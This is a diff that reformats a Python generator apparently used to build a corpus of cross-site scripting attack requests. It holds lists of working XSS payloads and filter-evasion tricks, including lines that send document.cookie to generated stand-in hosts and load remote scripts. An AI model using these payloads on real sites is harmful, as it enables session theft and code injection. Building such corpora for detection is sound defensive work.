@@ -9,102 +9,27 @@ from weir_models.request_attack.corpus.placing import word
 
 R = random.Random
 
-TAGS = [
-    "img",
-    "svg",
-    "body",
-    "iframe",
-    "input",
-    "video",
-    "audio",
-    "details",
-    "object",
-    "embed",
-    "marquee",
-    "math",
-    "select",
-    "textarea",
-    "button",
-    "form",
-    "style",
-    "link",
-    "meta",
-    "base",
-    "a",
-    "div",
-    "p",
-    "b",
-    "source",
-    "isindex",
-    "keygen",
-    "table",
-    "td",
-]
-EVENTS = [
-    "onerror",
-    "onload",
-    "onclick",
-    "onmouseover",
-    "onfocus",
-    "ontoggle",
-    "onstart",
-    "onmouseenter",
-    "onpointerover",
-    "onanimationstart",
-    "onblur",
-    "onkeydown",
-    "onpageshow",
-    "onscroll",
-    "onwheel",
-    "ondrag",
-    "oncopy",
-    "onbegin",
-    "onhashchange",
-    "onauxclick",
-    "oninput",
-    "onsubmit",
-    "ontransitionend",
-]
-PROOFS = (
-    "1",
-    "'xss'",
-    "document.domain",
-    "document.cookie",
-    '"x"',
-    "/x/",
-    "origin",
-    "1337",
-    "`1`",
-    "String.fromCharCode(88,83,83)",
-    "window.origin",
-    "location",
-)
+TAGS = """
+    img svg body iframe input video audio details object embed marquee math select textarea button form style link
+    meta base a div p b source isindex keygen table td
+""".split()
+EVENTS = """
+    onerror onload onclick onmouseover onfocus ontoggle onstart onmouseenter onpointerover onanimationstart onblur
+    onkeydown onpageshow onscroll onwheel ondrag oncopy onbegin onhashchange onauxclick oninput onsubmit
+    ontransitionend
+""".split()
+PROOFS = ("1", "'xss'", "document.domain", "document.cookie", '"x"', "/x/", "origin", "1337", "`1`", "String.fromCharCode(88,83,83)",
+    "window.origin", "location")  # fmt: skip
 
 
 def _call(r: R) -> str:
     name, proof = r.choice(("alert", "prompt", "confirm", "alert", "print", "eval", "console.log")), r.choice(PROOFS)
-    return r.choice(
-        (
-            f"{name}({proof})",
-            f"{name}({proof})",
-            f"{name}`{r.randint(1, 99)}`",
-            f"window['{name}']({proof})",
-            f"({name})({proof})",
-            f"{name}.call(null,{proof})",
-            f"self[`{name}`]({proof})",
-            f"top.{name}({proof})",
-            f"[{r.randint(1, 9)}].find({name})",
-            f"eval('{name}({r.randint(1, 9)})')",
-            f"setTimeout('{name}({r.randint(1, 9)})')",
-            f"eval(atob('{word(r)}=='))",
-            "document.location='//" + word(r) + ".com/?'+document.cookie",
-            f"fetch('//{word(r)}.net?'+document.cookie)",
-            f"new Image().src='http://{word(r)}.com/'+document.cookie",
-            f"import('//{word(r)}.js')",
-            f"{name}\\u0028{r.randint(1, 9)})",
-            f"window.onerror={name};throw {r.randint(1, 9)}",
-        )
-    )
+    return r.choice((f"{name}({proof})", f"{name}({proof})", f"{name}`{r.randint(1, 99)}`", f"window['{name}']({proof})",
+        f"({name})({proof})", f"{name}.call(null,{proof})", f"self[`{name}`]({proof})", f"top.{name}({proof})",
+        f"[{r.randint(1, 9)}].find({name})", f"eval('{name}({r.randint(1, 9)})')", f"setTimeout('{name}({r.randint(1, 9)})')",
+        f"eval(atob('{word(r)}=='))", "document.location='//" + word(r) + ".com/?'+document.cookie",
+        f"fetch('//{word(r)}.net?'+document.cookie)", f"new Image().src='http://{word(r)}.com/'+document.cookie",
+        f"import('//{word(r)}.js')", f"{name}\\u0028{r.randint(1, 9)})", f"window.onerror={name};throw {r.randint(1, 9)}"))  # fmt: skip
 
 
 def _mix(r: R, text: str) -> str:
@@ -114,45 +39,16 @@ def _mix(r: R, text: str) -> str:
 
 
 def _break(r: R) -> str:
-    return r.choice(
-        (
-            "",
-            "",
-            '">',
-            "'>",
-            "\"'>",
-            "</title>",
-            "</textarea>",
-            "-->",
-            "</script>",
-            word(r),
-            '"/>',
-            'x">',
-            ">",
-            "</style>",
-            "'\"><",
-        )
-    )
+    return r.choice(("", "", '">', "'>", "\"'>", "</title>", "</textarea>", "-->", "</script>", word(r), '"/>', 'x">', ">", "</style>",
+        "'\"><"))  # fmt: skip
 
 
 def script(r: R) -> str:
     """A script element."""
     inner = r.choice((_call(r), "", f"var x='{word(r)}'", "document.write('<b>')"))
-    tag = r.choice(
-        (
-            "<script>",
-            f"<script src=//{word(r)}.com/x.js>",
-            f"<script src='http://{word(r)}.net/{word(r)}.js'>",
-            "<script type=text/javascript>",
-            "<script\n>",
-            "<script/x>",
-            "<ScRiPt >",
-            "<script x>",
-            "<<script>",
-            "<script/src=data:,alert(1)>",
-            "<svg><script>",
-        )
-    )
+    tag = r.choice(("<script>", f"<script src=//{word(r)}.com/x.js>", f"<script src='http://{word(r)}.net/{word(r)}.js'>",
+        "<script type=text/javascript>", "<script\n>", "<script/x>", "<ScRiPt >", "<script x>", "<<script>", "<script/src=data:,alert(1)>",
+        "<svg><script>"))  # fmt: skip
     return (
         _break(r)
         + _mix(r, tag)
@@ -164,21 +60,8 @@ def script(r: R) -> str:
 def handler(r: R) -> str:
     """An element with a handler."""
     space = r.choice((" ", " ", "/", "\t", "\n", "\x0c", "//", " / "))
-    attribute = r.choice(
-        (
-            " src=x",
-            " src",
-            "",
-            " href=#",
-            " autofocus",
-            " style=x",
-            " src=1",
-            f" id={word(r)}",
-            " open",
-            " width=1",
-            "/src",
-        )
-    )
+    attribute = r.choice((" src=x", " src", "", " href=#", " autofocus", " style=x", " src=1", f" id={word(r)}", " open", " width=1",
+        "/src"))  # fmt: skip
     quote = r.choice(("", "", '"', "'", "`"))
     equals = r.choice(("=", "=", " = ", "=\n"))
     end = r.choice((">", ">", "/>", "//", "", " x>", "<!--"))
@@ -187,44 +70,14 @@ def handler(r: R) -> str:
 
 def address(r: R) -> str:
     """A script as an address."""
-    scheme = r.choice(
-        (
-            "javascript:",
-            "javascript:",
-            "JaVaScRiPt:",
-            "java\tscript:",
-            "java&#10;script:",
-            "jav&#x0A;ascript:",
-            "&#106;avascript:",
-            "vbscript:",
-            "javascript&colon;",
-            " javascript:",
-            "javascript://%0a",
-            "data:text/html,<script>",
-            "data:text/html;base64,PHNjcmlwdD4",
-            "\\x6aavascript:",
-        )
-    )
+    scheme = r.choice(("javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "jav&#x0A;ascript:",
+        "&#106;avascript:", "vbscript:", "javascript&colon;", " javascript:", "javascript://%0a", "data:text/html,<script>",
+        "data:text/html;base64,PHNjcmlwdD4", "\\x6aavascript:"))  # fmt: skip
     made = f"{scheme}{_call(r)}"
-    return r.choice(
-        (
-            made,
-            f'<a href="{made}">x</a>',
-            f"<iframe src='{made}'>",
-            f"<form action={made}><input type=submit>",
-            f"<object data={made}>",
-            f"<svg><a xlink:href={made}>",
-            f"<embed src={made}>",
-            f'<meta http-equiv=refresh content="0;url={made}">',
-            f"<button formaction={made}>x",
-            f'<img src="{made}">',
-            f'<body background="{made}">',
-            f"<link rel=stylesheet href={made}>",
-            f"<base href={made}//>",
-            f"<table background={made}>",
-            f'<iframe srcdoc="<img src=x onerror={_call(r)}>">',
-        )
-    )
+    return r.choice((made, f'<a href="{made}">x</a>', f"<iframe src='{made}'>", f"<form action={made}><input type=submit>",
+        f"<object data={made}>", f"<svg><a xlink:href={made}>", f"<embed src={made}>", f'<meta http-equiv=refresh content="0;url={made}">',
+        f"<button formaction={made}>x", f'<img src="{made}">', f'<body background="{made}">', f"<link rel=stylesheet href={made}>",
+        f"<base href={made}//>", f"<table background={made}>", f'<iframe srcdoc="<img src=x onerror={_call(r)}>">'))  # fmt: skip
 
 
 def attribute(r: R) -> str:
@@ -243,46 +96,21 @@ def in_script(r: R) -> str:
 
 def bare_call(r: R) -> str:
     """Calls alone, for places where script is evaluated."""
-    return r.choice(
-        (
-            _call(r),
-            _call(r) + ";",
-            f"({_call(r)})",
-            f"a=alert,a({r.randint(1, 9)})",
-            f"[]['constructor']['constructor']('{_call(r)}')()",
-            f"Function('{_call(r)}')()",
-            f"constructor.constructor('{_call(r)}')()",
-            f"top['al'+'ert']({r.randint(1, 9)})",
-            f"eval('al'+'ert({r.randint(1, 9)})')",
-            "document['cookie']",
-            f"__proto__[x]={_call(r)}",
-            f"location='javascript:{_call(r)}'",
-            f"alert?.({r.randint(1, 9)})",
-            f"`${{{_call(r)}}}`",
-        )
-    )
+    return r.choice((_call(r), _call(r) + ";", f"({_call(r)})", f"a=alert,a({r.randint(1, 9)})",
+        f"[]['constructor']['constructor']('{_call(r)}')()", f"Function('{_call(r)}')()", f"constructor.constructor('{_call(r)}')()",
+        f"top['al'+'ert']({r.randint(1, 9)})", f"eval('al'+'ert({r.randint(1, 9)})')", "document['cookie']", f"__proto__[x]={_call(r)}",
+        f"location='javascript:{_call(r)}'", f"alert?.({r.randint(1, 9)})", f"`${{{_call(r)}}}`"))  # fmt: skip
 
 
 def style(r: R) -> str:
     """Style sheets and old features that run code."""
-    return r.choice(
-        (
-            f"<style>@import'javascript:{_call(r)}';</style>",
-            f'<div style="width:expression({_call(r)})">',
-            f'<xss style="behavior:url({word(r)}.htc)">',
-            f'<div style="-moz-binding:url(//{word(r)}.xml#x)">',
-            f"<style>*{{background:url('javascript:{_call(r)}')}}</style>",
-            f"<img dynsrc='javascript:{_call(r)}'>",
-            f"<xml id=x><i><b><img src=javascript:{_call(r)}></b></i></xml>",
-            "<?import namespace=t implementation=#default#time2>",
-            f"<math><mtext><table><mglyph><style><img src=x onerror={_call(r)}>",
-            f"<animate attributeName=href values=javascript:{_call(r)} />",
-            "<div datasrc=#x dataformatas=html>",
-            f"<layer src=//{word(r)}.js>",
-            f"<bgsound src=javascript:{_call(r)}>",
-            f"exp/*<a style='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression({_call(r)})'>",
-        )
-    )
+    return r.choice((f"<style>@import'javascript:{_call(r)}';</style>", f'<div style="width:expression({_call(r)})">',
+        f'<xss style="behavior:url({word(r)}.htc)">', f'<div style="-moz-binding:url(//{word(r)}.xml#x)">',
+        f"<style>*{{background:url('javascript:{_call(r)}')}}</style>", f"<img dynsrc='javascript:{_call(r)}'>",
+        f"<xml id=x><i><b><img src=javascript:{_call(r)}></b></i></xml>", "<?import namespace=t implementation=#default#time2>",
+        f"<math><mtext><table><mglyph><style><img src=x onerror={_call(r)}>",
+        f"<animate attributeName=href values=javascript:{_call(r)} />", "<div datasrc=#x dataformatas=html>", f"<layer src=//{word(r)}.js>",
+        f"<bgsound src=javascript:{_call(r)}>", f"exp/*<a style='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression({_call(r)})'>"))  # fmt: skip
 
 
 FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str]], ...] = (
